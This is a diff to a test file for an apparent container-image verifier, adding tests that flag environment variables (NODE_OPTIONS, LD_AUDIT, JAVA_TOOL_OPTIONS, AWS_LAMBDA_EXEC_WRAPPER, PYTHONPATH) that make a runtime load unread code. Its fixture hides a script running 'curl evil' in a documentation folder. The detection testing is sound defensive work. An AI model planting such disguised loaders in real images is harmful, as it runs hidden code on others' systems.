@@ -11,8 +11,10 @@
  * - the image's `/etc/os-release` names another vendor, or is gone: the denied Debian package is
  *   still installed (dpkg never reads that file), and still denied;
  * - the loader preloads a shared object into every process (`/etc/ld.so.preload`, the config's
- *   `LD_PRELOAD`), or the entry point runs a file through the loader (`ld.so FILE`), under a name
- *   and mode that say nothing: it is read and listed, unowned.
+ *   `LD_PRELOAD` or `LD_AUDIT`), or the entry point runs a file through the loader (`ld.so FILE`),
+ *   under a name and mode that say nothing: it is read and listed, unowned;
+ * - the config's environment makes the runtime load a file no cataloger reads
+ *   (`NODE_OPTIONS=--require /usr/share/doc/x/readme.js`): `ENV_LOADER`, allowed only by name.
  */
 import { createHash } from 'node:crypto';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
@@ -94,7 +96,12 @@ images:
 
 let n = 0;
 /** Write a two-layer image (base, `top`) that runs /usr/bin/nc, and verify it. */
-async function verify(top: TarEntry[], env?: string[], entrypoint = ['/usr/bin/nc', '-l', '8080']) {
+async function verify(
+  top: TarEntry[],
+  env?: string[],
+  entrypoint = ['/usr/bin/nc', '-l', '8080'],
+  policy = POLICY
+) {
   const layers = [makeLayer(BASE), makeLayer(top)];
   const img = makeImage({
     layers,
@@ -109,7 +116,7 @@ async function verify(top: TarEntry[], env?: string[], entrypoint = ['/usr/bin/n
     'verify',
     `oci:${layout}:v1`,
     '--policy',
-    POLICY,
+    policy,
     '--repository',
     'ecr.example/app',
     '--cache-dir',
@@ -197,6 +204,7 @@ describe('verify IMAGE: what the loader preloads or the entry point runs', () =>
   it.each([
     ['/etc/ld.so.preload', [file('etc/ld.so.preload', '/usr/share/misc/magic.mgc\n')], undefined],
     ["the image config's LD_PRELOAD", [], ['LD_PRELOAD=/usr/share/misc/magic.mgc']],
+    ["the image config's LD_AUDIT", [], ['LD_AUDIT=/usr/share/misc/magic.mgc']],
   ])(
     'a shared object named by %s is listed and fails inventory:complete',
     async (_n, extra, env) => {
@@ -207,6 +215,68 @@ describe('verify IMAGE: what the loader preloads or the entry point runs', () =>
       );
     }
   );
+});
+
+describe("verify IMAGE: the image config's environment", () => {
+  const clean = [...FORGET_NETCAT, dir('usr'), dir('usr/bin'), wh('usr/bin/.wh.nc')];
+  const script = [
+    dir('usr/share'),
+    dir('usr/share/doc'),
+    dir('usr/share/doc/x'),
+    file('usr/share/doc/x/readme.js', "require('child_process').execSync('curl evil')\n"),
+  ];
+  // What AWS base images set: the catalogers read every executable and library wherever
+  // PATH and LD_LIBRARY_PATH lead, so these alone load nothing unread.
+  const BASE_ENV = [
+    'PATH=/var/lang/bin:/usr/local/bin:/usr/bin/:/bin:/opt/bin',
+    'LD_LIBRARY_PATH=/var/lang/lib:/lib64:/usr/lib64:/var/runtime:/var/task:/opt/lib',
+    'LAMBDA_TASK_ROOT=/var/task',
+    'LANG=en_US.UTF-8',
+  ];
+
+  it("the control: the base images' variables pass", async () => {
+    const r = await verify([...clean, ...script], BASE_ENV);
+    expect(r.code).toBe(0);
+    expect(r.check('inventory:complete')?.outcome).toBe('pass');
+  });
+
+  it.each([
+    ['NODE_OPTIONS', '--require /usr/share/doc/x/readme.js'],
+    ['AWS_LAMBDA_EXEC_WRAPPER', '/usr/share/doc/x/readme.js'],
+    ['JAVA_TOOL_OPTIONS', '-javaagent:/usr/share/doc/x/agent.jar'],
+    ['PYTHONPATH', '/usr/share/doc/x'],
+  ])('%s in the config fails inventory:complete (ENV_LOADER)', async (name, value) => {
+    const r = await verify([...clean, ...script], [...BASE_ENV, `${name}=${value}`]);
+    expect(r.code).toBe(1);
+    expect(r.check('inventory:complete')?.outcome).toBe('fail');
+    expect(r.check('inventory:complete')?.detail).toContain(`ENV_LOADER ${name}`);
+  });
+
+  it('a variable the policy allows by name passes; the allowance covers that name only', async () => {
+    const allowing = join(tmp, 'policy-env.yaml');
+    writeFileSync(
+      allowing,
+      `version: 1
+default: deny
+images:
+  - match: { repository: '**' }
+    mode: enforce
+    packages: { deny: [{ purl: 'pkg:deb/debian/netcat-openbsd' }] }
+    inventory:
+      allow:
+        - { code: ENV_LOADER, paths: [JAVA_TOOL_OPTIONS], reason: 'JVM start-up flags' }
+`
+    );
+    const jvm = 'JAVA_TOOL_OPTIONS=-XX:+TieredCompilation -XX:TieredStopAtLevel=1';
+    const ok = await verify([...clean, ...script], [...BASE_ENV, jvm], undefined, allowing);
+    expect(ok.code).toBe(0);
+    const node = 'NODE_OPTIONS=--require /usr/share/doc/x/readme.js';
+    const bad = await verify([...clean, ...script], [...BASE_ENV, jvm, node], undefined, allowing);
+    expect(bad.code).toBe(1);
+    const detail = bad.check('inventory:complete')?.detail;
+    expect(detail).toContain('could see: ENV_LOADER NODE_OPTIONS.');
+    expect(detail).toContain('allowed by the rule: ENV_LOADER JAVA_TOOL_OPTIONS.');
+  });
 });
 
 describe('verify IMAGE: function code behind a symlinked /var/task', () => {
